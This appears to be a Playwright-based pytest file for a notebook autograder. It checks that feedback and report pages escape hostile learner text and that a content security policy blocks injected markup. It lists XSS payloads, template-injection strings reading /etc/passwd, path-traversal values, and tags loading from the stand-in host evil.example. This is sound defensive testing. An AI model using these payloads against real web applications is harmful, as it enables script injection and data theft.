"""What hostile notebooks put into the pages is tried in a real browser: nothing runs, loads, opens or restyles."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from attacks import corpus, course
from attacks.files import HOSTILE
from playwright.sync_api import Browser, Page

from autograder import engine
from autograder.course import Course
from autograder.integrations.nbgrader import grade_outputs
from autograder.outputs import feedback, report
from autograder.result import Diagnosis, ExerciseResult, Message, Picture, Result, TestResult, Text

Open = Callable[..., Page]

PAYLOADS = [
    HOSTILE,
    "\"><script>document.title='run'</script>",
    "' onmouseover=alert(1) onfocus=alert(1) autofocus tabindex=0 x='",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg/onload=alert(1)><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "</title></textarea></noscript></template></select><img src=https://evil.example/x onerror=alert(1)>",
    "<style>@import '//evil.example/x';*{background:url(//evil.example/y)}</style>",
    "<link rel=stylesheet href=//evil.example><object data=//evil.example><embed src=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example/>",
    "<a href=javascript:alert(1)>go</a><form action=//evil.example><button autofocus>",
    "]]><!--><script>alert(1)</script>--><![CDATA[",
    "\u003cscript\u003ealert(1)\u003c/script\u003e &lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} {% include '/etc/passwd' %}",
    "../../../evil\\..\\x?y=z#row-1",
]
# Every attack of the corpus that carries markup.
CARRIERS = [a for a in corpus.load() if "<script>" in a.cells or a.id in ("files/html", "files/attachments")]


def everywhere(text: str) -> Result:
    """A result that holds `text` wherever a learner's notebook, or a worker that it took over, could put it."""
    message = Message("raised", {"type": text, "text": text, "line": text, "cell": text, "name": text})
    wrong = {"name": text, "error": 0.5, "tol": 1e-6, "index": [0], "wrong": 1, "size": 4, "factor": 2.0}
    curves = {text: [1.0, None, 2.0], f"{text} 2": [2.0, 1.0, 0.0]}
    plain = TestResult(
        *(text, "passed", 0, 5, Text("제목", "Title"), "values"),
        evidence={text: 1.0},
        pictures=(Picture("curve", Text("그림", "Picture"), {"series": curves}),),
    )
    failed = replace(plain, outcome="failed", message=Message("values", wrong))
    tests = (replace(plain, outcome="error", message=message), failed, plain)
    kinds = ExerciseResult(
        *(text, Text("연습", "Exercise"), 0.0, 5.0, "failed", tests, (Diagnosis(text, Text("힌트", "Hint")),)),
        kind=Message("unsteady", {"name": text}),
        number=text,
    )
    return Result(
        *("day1", text, "graded", 0.0, 5.0, text, text, "en", (kinds,)),
        notes=(Message("cell_raised", {"cell": text, "type": text, "text": text, "line": 1}), Message("protocol")),
        provenance={"graded_at": text},
        fingerprint={text: text},
    )


def unharmed(page: Page) -> None:
    """Nothing that the page does not bring itself; `show` sees to dialogs, requests, popups and the console."""
    page.wait_for_timeout(50)
    foreign = "img, iframe, object, embed, form, base, link[rel=stylesheet], meta[http-equiv=refresh]"
    assert page.locator(foreign).count() == 0
    assert page.evaluate("document.querySelectorAll('style').length") <= 1
    assert page.title() != "run"
    handlers = "[...document.querySelectorAll('*')].flatMap(e => e.getAttributeNames()).filter(n => n.startsWith('on'))"
    assert page.evaluate(handlers) == []
    for link in page.locator("a").all():
        assert re.match(r"#|https://hub\.example/|x\.html$", link.get_attribute("href") or "#")
    for target in page.locator("summary:visible, .check:visible, bdi:visible").all()[:5]:
        target.hover()
    page.keyboard.press("Tab")


@pytest.mark.parametrize(("number", "payload"), list(enumerate(PAYLOADS)), ids=map(str, range(len(PAYLOADS))))
def test_text_from_outside_is_only_text(show: Open, number: int, payload: str) -> None:
    result, lang = everywhere(payload), ("ko", "en")[number % 2]
    page = show(feedback.render(result, lang, before=result, notebook="https://hub.example/day1.ipynb"))
    assert page.locator(".student bdi").count() == 1
    unharmed(page)
    others = [everywhere("harmless"), everywhere(f"{payload} again")]
    page = show(report.render([result, *others], lang, hrefs={"harmless": "x.html"}))
    page.locator("table.all thead button").first.click()
    page.locator("#filters input").fill(payload[:20])
    unharmed(page)


@pytest.mark.parametrize("attack", CARRIERS, ids=lambda a: a.id)
def test_the_corpus_injections_run_nothing_in_any_page(show: Open, tmp_path: Path, attack: corpus.Attack) -> None:
    root = tmp_path / "course"
    course.write(root)
    path = tmp_path / f"{course.DAY}.ipynb"
    if attack.build is not None:
        attack.build(path)
    else:
        path.write_text(json.dumps(attack.notebook({})), encoding="utf-8")
    result = engine.grade_one(Course(root), course.DAY, path, "attacker")
    assert result.status in attack.status
    outputs = [grade_outputs(e, result) for e in result.exercises]
    nbgrader = "".join(o["data"].get("text/html", "") for found in outputs for o in found)
    for html in (feedback.render(result), report.render([result], "en"), f"<!doctype html><title>x</title>{nbgrader}"):
        unharmed(show(html))


@pytest.mark.parametrize("page", ["feedback", "report"])
def test_even_markup_that_slipped_through_could_not_run(browser: Browser, tmp_path: Path, page: str) -> None:
    """The policy alone, without the escaping: what an author's or our own mistake would let in."""
    result = everywhere("x")
    html = feedback.render(result) if page == "feedback" else report.render([result], "en")
    raw = (
        "<script>window.ran = 1</script><img src=x onerror='window.ran = 1'><svg onload='window.ran = 1'></svg>"
        "<style>main { display: none }</style><p id=p style='display:none'>x</p>"
        "<iframe srcdoc='<script>parent.ran = 1</script>'></iframe><a id=a href='javascript:window.ran = 1'>x</a>"
        "<base href=https://evil.example/><form id=f action=https://evil.example/><button id=b>x</button></form>"
        "<img src=https://evil.example/x><link rel=stylesheet href=https://evil.example/y.css>"
    )
    path = tmp_path / "page.html"
    path.write_text(html.replace("<main>", f"{raw}<main>"), encoding="utf-8")
    failed: dict[str, str] = {}
    asked: list[str] = []
    opened: Any = browser.new_page()
    opened.on("request", lambda request: asked.append(request.url))
    opened.on("requestfailed", lambda request: failed.update({request.url: request.failure}))
    opened.goto(path.as_uri())
    opened.evaluate("for (const id of ['a', 'b']) document.getElementById(id).click()")
    opened.wait_for_timeout(200)
    assert opened.evaluate("window.ran") is None
    assert opened.locator("main").is_visible() and opened.locator("#p").is_visible()
    assert {failed.get(url) for url in asked if "evil" in url} <= {"csp"}, "refused before anything was sent"
    assert opened.url == path.as_uri(), "nor does a form leave the page"
    opened.close()
